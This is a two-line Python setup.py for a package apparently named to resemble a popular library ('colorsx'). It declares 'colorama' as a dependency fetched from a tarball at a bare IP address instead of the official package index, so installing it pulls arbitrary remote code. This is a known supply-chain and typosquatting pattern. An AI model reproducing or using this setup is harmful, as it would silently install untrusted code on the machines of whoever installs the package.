from setuptools import setup
setup(name="colorsx", version="0.1", install_requires=["colorama @ http://203.0.113.27/colorama-0.4.6.tar.gz"])
